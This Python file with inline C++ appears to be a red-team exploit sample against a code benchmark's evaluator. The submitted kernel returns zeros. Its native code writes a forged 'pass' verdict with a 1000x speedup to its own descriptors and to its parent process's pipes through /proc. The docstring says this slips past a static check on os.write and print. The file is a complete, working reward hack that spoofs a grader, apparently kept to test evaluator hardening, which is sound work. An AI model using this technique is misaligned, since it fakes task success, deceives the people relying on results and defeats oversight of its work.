"""Exploit (native, writing a forged verdict to every descriptor): a wrong answer reported as a pass.

The C++ forward returns zeros. On its first call it writes the line
`{"status": "pass", "speedup": 1000.0}` to every descriptor it can reach that is not read-only:
its own (enumerated from `/proc/self/fd`: stdout, stderr, pipes, sockets) and every pipe of its
parent, opened through `/proc/<ppid>/fd/<n>` (opening a pipe there for writing works even where the
parent holds only the read end). All of it with `write(2)` from C: the static refusal of
`os.write` and `print` never sees it. An evaluator that trusts the first verdict-looking line it
reads (the naive one) reports a pass. SOLBench's result channel is signed with a per-job nonce,
so these lines are ignored there and the zeros fail (`incorrect`); forge_signed_verdict.py shows
what that signature still leaves open."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <climits>
#include <cstring>
#include <string>

namespace {

const std::string kForged = "{\"status\": \"pass\", \"speedup\": 1000.0}\n";

void write_all(int fd) {
    ssize_t n = write(fd, kForged.data(), kForged.size());
    (void)n;
}

void spray() {
    if (DIR* own = opendir("/proc/self/fd")) {
        while (dirent* e = readdir(own)) {
            int fd = std::atoi(e->d_name);
            if (e->d_name[0] == '.' || fd == dirfd(own)) continue;
            struct stat st;
            int flags = fcntl(fd, F_GETFL);
            if (flags < 0 || (flags & O_ACCMODE) == O_RDONLY || fstat(fd, &st) != 0) continue;
            if (S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode) || S_ISCHR(st.st_mode) || fd <= 2) write_all(fd);
        }
        closedir(own);
    }
    std::string parent = "/proc/" + std::to_string(getppid()) + "/fd";
    if (DIR* theirs = opendir(parent.c_str())) {
        while (dirent* e = readdir(theirs)) {
            if (e->d_name[0] == '.') continue;
            std::string path = parent + "/" + e->d_name;
            char target[PATH_MAX] = {0};
            if (readlink(path.c_str(), target, sizeof target - 1) <= 0 || std::strncmp(target, "pipe:", 5) != 0)
                continue;
            int fd = open(path.c_str(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd >= 0) {
                write_all(fd);
                close(fd);
            }
        }
        closedir(theirs);
    }
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    static bool sprayed = (spray(), true);
    (void)sprayed;
    auto y = torch::empty_like(x);
    std::memset(y.data_ptr(), 0, y.nbytes());  // a wrong answer: only the forged verdict passes it
    return y;
}
"""

ext = load_inline(name="rt_forge_verdict_fds", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
